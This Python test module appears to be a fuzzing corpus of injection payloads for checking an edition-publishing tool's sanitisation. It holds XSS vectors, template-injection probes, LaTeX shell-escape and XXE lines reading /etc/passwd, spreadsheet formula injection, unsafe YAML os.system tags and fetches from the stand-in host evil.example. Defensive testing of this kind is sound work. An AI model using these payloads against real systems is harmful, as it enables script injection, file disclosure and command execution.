"""What somebody might put into an edition to have it run, fetch, read or break something; each by what it tries.

`canary(1)` is what a script would call, `evil.example` what a page would fetch from. Every vector is one line.
"""

from __future__ import annotations

import re

RUN = "canary(1)"
FETCH = "https://evil.example"

TEXT: dict[str, list[str]] = {
    "script elements": [
        f"<script>{RUN}</script>",
        f"<SCRIPT SRC={FETCH}/x.js></SCRIPT>",
        f"<script/x>{RUN}</script>",
        f"<script\u3000>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script type=module>import '{FETCH}/x.js'</script>",
        f"<script>/*{RUN}",
        f"</script><script>{RUN}</script>",
        f"</ScRiPt ><ScRiPt>{RUN}</ScRiPt>",
        f"</title><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</noscript><script>{RUN}</script>",
        f"</template><script>{RUN}</script>",
        f"</iframe></noembed></noframes></xmp><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"--!><script>{RUN}</script>",
        f"*/</style><script>{RUN}</script>",
        f"\"><script>{RUN}</script>",
        f"'><script>{RUN}</script>",
        f"`><script>{RUN}</script>",
        f"?><script>{RUN}</script>",
        "<!--<script>",
        "<!-- never closed",
        "<plaintext>",
        "<textarea>",
        "<title>",
        "<xmp>",
    ],
    "event handlers": [
        f"<img src=x onerror={RUN}>",
        f"<img src=x:x OnErRoR={RUN}//",
        f"<IMG \"\"\"><img src=x onerror={RUN}>\">",
        f"<img/src='x'/onerror='{RUN}'/>",
        "<img src=x onerror=&#99;anary(1)>",
        f"<body onload={RUN}>",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<details open ontoggle={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}>",
        f"<textarea autofocus onfocus={RUN}>",
        f"<x tabindex=1 autofocus onfocus={RUN}>",
        f"<marquee onstart={RUN}>",
        f"<p onmouseover={RUN}>",
        f"<a onclick={RUN} href=#>x</a>",
        f"<iframe onload={RUN}></iframe>",
        f"<object data=x onerror={RUN}></object>",
        f"<embed src=x onload={RUN}>",
        f"<style onload={RUN}></style>",
        f"<link rel=stylesheet href=x onerror={RUN}>",
        f"<div popover onbeforetoggle={RUN} id=pop></div><button popovertarget=pop>",
        f"<p style=animation-name:x onanimationstart={RUN}>",
        f"<body onpageshow={RUN} onhashchange={RUN}>",
    ],
    "out of an attribute": [
        f'" onmouseover="{RUN}',
        f"' onfocus='{RUN}' autofocus tabindex='1",
        f'" autofocus onfocus={RUN} x="',
        f'"/><img src=x onerror={RUN}>',
        f"x\" style=\"background:url({FETCH}/a)",
        f'" srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;',
        f"` onmouseover=`{RUN}",
        f'" href="javascript:{RUN}',
        f"&quot; onmouseover=&quot;{RUN}",
        f"&#34;&#62;&#60;img src=x onerror={RUN}&#62;",
    ],
    "addresses": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
        "vbscript:canary(1)",
        f"<a href=javascript:{RUN}>x</a>",
        f"<a href='java&#9;script:{RUN}'>x</a>",
        f"<form action=javascript:{RUN}><button>x</button></form>",
        f"<button formaction=javascript:{RUN}>x</button>",
        f"<base href={FETCH}/>",
        f"<meta http-equiv=refresh content='0;url={FETCH}/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<iframe src={FETCH}/></iframe>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<link rel=stylesheet href={FETCH}/x.css>",
        f"<link rel=preload as=script href={FETCH}/x.js>",
        f"<img src={FETCH}/x.png srcset={FETCH}/y.png>",
        f"<video poster={FETCH}/x.png autoplay src={FETCH}/x.mp4></video>",
        f"<a href={FETCH}/ ping={FETCH}/ping>x</a>",
        f"<table background={FETCH}/x.png>",
        f"<input type=image src={FETCH}/x.png>",
    ],
    "SVG": [
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><set attributeName=href to=javascript:{RUN} begin=0s /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=x onerror={RUN} /></svg>#x'/></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><image href={FETCH}/x.png /></svg>",
        f"<svg><style>@import '{FETCH}/x.css'</style></svg>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    ],
    "MathML": [
        f"<math href=javascript:{RUN}>x</math>",
        f"<math><mi xlink:href=\"data:text/html,<script>{RUN}</script>\">x</mi></math>",
        f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">",
    ],
    "CSS": [
        f"<style>@import '{FETCH}/x.css';</style>",
        f"<style>*{{background:url({FETCH}/x)}}</style>",
        f"<p style=\"background:url({FETCH}/x)\">x</p>",
        f"<p style=\"width:expression({RUN})\">x</p>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        f"}} body {{ background: url({FETCH}/x) }}",
        f"\\65 xpression({RUN})",
    ],
    "JSON": [
        f"</script><!--<script>{RUN}",
        f'"}}]}}</script><script>{RUN}</script>',
        f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}",
        '\\"', "\\", '", "canary": "1', "]]}}", "__proto__", "constructor", f"line\u2028separators\u2029{RUN}\x85",
    ],
    "templates": [
        "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% raw %}", "{% endblock %}",
        "{% include '/etc/passwd' %}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('canary(1)')()}}",
        "{0.__class__}", "{series.__class__}", "%s%n%(x)s", "{}", "{", "}", "$canary", "\\1\\g<0>",
    ],
    "LaTeX and reference managers": [
        "\\input{/etc/passwd}", "\\immediate\\write18{touch x}", f"\\href{{javascript:{RUN}}}{{x}}", "\\textbf{never closed",
        "@book{evil, title = {x}}", f"}}, url = {{javascript:{RUN}", "ER  - ", "TY  - BOOK", "$\\begin{x}$", "\\", "%", "and others",
    ],
    "formulas": [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", f'=HYPERLINK("{FETCH}","x")', "'=1+1", "''=1+1", ";=1+1",
        '"=1+1"', "＝1+1", "|=1+1",
    ],
    "XML": [
        f"<![CDATA[<script>{RUN}</script>]]>", "]]>", "<?php echo 1 ?>", f"<?xml-stylesheet href=\"{FETCH}/x.xsl\"?>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;", "<!ENTITY % p SYSTEM \"x\"> %p;", "&xxe;", "&amp;lt;b&amp;gt;",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\" parse=\"text\"/>",
        f"<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></x>", "<!-- -- -->", "</p></note></body></TEI>",
    ],
    "search": [f"<mark><img src=x onerror={RUN}></mark>", f"</mark><script>{RUN}</script><mark>", "pagefind_dcd{\"a\":1}"],
    "other spellings": [
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}",
        f"＜script＞{RUN}＜/script＞", f"<ſcript>{RUN}</ſcript>", f"<ıframe src={FETCH}>", f"<scr\u200bipt>{RUN}</scr\u200bipt>",
        f"<\u0338script>{RUN}</script>",
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    ],
    "numbers without end": ["9" * 4400 + "th mtg"],
    "names that scripts look up": [
        "<img name=currentScript>", "<form id=location><input name=href></form>", "<a id=root>x</a>", "<iframe name=CSS></iframe>",
        "<form name=getElementById></form>",
    ],
}  # fmt: skip

LINKS: list[str] = [
    "javascript:canary(1)", "JAVASCRIPT:canary(1)", "jAvAsCrIpT:canary(1)", "javascript&colon;canary(1)", "javascript&#58;canary(1)",
    "javascript&#x3A;canary(1)", "&#106;avascript:canary(1)", "&#x6A;avascript:canary(1)", "&#0000106avascript:canary(1)",
    "java&Tab;script:canary(1)", "java&NewLine;script:canary(1)", "java&#9;script:canary(1)", "java&#10;script:canary(1)",
    "java&#13;script:canary(1)", "&#1;javascript:canary(1)", "&#14;javascript:canary(1)", "&#32;javascript:canary(1)",
    "&nbsp;javascript:canary(1)", "&#8203;javascript:canary(1)", "\\javascript:canary(1)", "javascript\\:canary(1)",
    "<javascript:canary(1)>", "<java script:canary(1)>", "javascript://%0acanary(1)", "javascript:%63anary(1)",
    "javascript:alert%281%29//https://", "data:text/html,<script>canary(1)</script>", "<data:text/html,canary(1)>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zy8+", "DATA:text/html,x",
    "vbscript:canary(1)", "VBSCRIPT:canary(1)", "livescript:canary(1)", "mocha:canary(1)", "feed:javascript:canary(1)",
    "view-source:javascript:canary(1)", "blob:https://evil.example/1", "file:///etc/passwd", "filesystem:https://evil.example/x",
    "jar:https://evil.example!/x", "about:blank", "intent://evil.example#Intent;end", "ms-msdt:/id", "//evil.example/x", "///evil.example/x",
    "\\\\\\\\evil.example\\\\x", "/\\\\evil.example/x", "/etc/passwd", "http&#58;//evil.example", "https:evil.example",
    "mailto:x@evil.example?body=%3Cscript%3E", "ftp://evil.example/", "tel:+1", "person:nobody", "work:nobody", "file:../../etc/passwd",
    "#nowhere", "#%22onmouseover=canary(1)", "person:blythe\"onclick=canary(1)",
]  # fmt: skip

YAML: list[str] = [
    "!!python/object/apply:os.system ['touch hacked']", "!!python/name:os.system", "!!python/object/new:os.system [x]",
    "!!python/module:os", "!!python/tuple [a, b]", "!evil x", "!<tag:evil.example,2026:x> y", "!!binary aGk=", "!!set {a, b}",
    "!!omap [a: 1]", "&a [x, x]", "*a", "&a [*a]", "{<<: {a: b}}", "[" * 3000, "{a: " * 3000, "- - - -", "? [a, b]\n: c", "%TAG ! tag:x,2026:",
    "--- x", "\tx", "@x", "`x", "'never closed", '"never closed', '"\\xZZ"', "|2\n x", "{", "]", "? x", "a: b: c",
]  # fmt: skip

ENDLESS: list[str] = [
    form.format("9" * 5000)
    for form in ("{}", "{}th mtg", "pp. 12-{}", "pp. {}-3", "1 May {}", "{} May 1931", "KW 12/{}", "KW 12/345-{}", "KW {}/1", "KW 12/345, {}",
                 "LC(31){}", "LC({})4", "MIL{}", "Report {}", "Coll. 7, Box {}", "Coll. {}, Box 3", "Marlowe, Salt Stair, {}", "Hale to Wren {}")
]  # fmt: skip

SIGNS: list[str] = [
    "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b]0;title\x07", "\x1b[2J", "\x7f", "\x80", "\x9b31m", "\u202a", "\u202e", "\u202c",
    "\u2066", "\u2069", "\ufdd0", "\ufffe", "\uffff", "\U0001ffff", "\U0010fffe",
]  # fmt: skip

ADDRESSES: list[str] = [
    "javascript:canary(1)", " javascript:canary(1)", "data:text/html,x", "vbscript:x", "//evil.example/", "/x", "x", "https:", "https://",
    "https:evil.example", "https:///x", "https://a b/", "https://a/\"onclick=canary(1)", "https://a/'>", "https://a/<script>",
    "https://user:pass@evil.example/", "https://a\\@evil.example/", "https://exa\u202emple.org/", "http://[", "https://a/`", "file:///etc/passwd",
]  # fmt: skip


def texts() -> list[str]:
    """Every vector that is text, once."""
    return list(dict.fromkeys(vector for vectors in TEXT.values() for vector in vectors))


FIRST = re.compile(r"['|;\"]*[=+\-@＝]|[a-zA-Z]+:|[{}%$\\#&]")
LAST = ("<plaintext>", "<textarea>", "<title>", "<xmp>", "<!--", "<script>/*", "{% raw", "{# ", "<style>", "<select")


def groups(size: int) -> list[str]:
    """The vectors as lines of so many: those that need the beginning of a field stand first, those that swallow what follows last."""
    first = [vector for vector in texts() if FIRST.match(vector)]
    last = [vector for vector in texts() if vector.startswith(LAST) and vector not in first]
    middle = [vector for vector in texts() if vector not in first and vector not in last]
    ordered = [*first, *middle, *last]
    count = -(-len(ordered) // size)
    return [" ¦ ".join(ordered[at::count]) for at in range(count)]
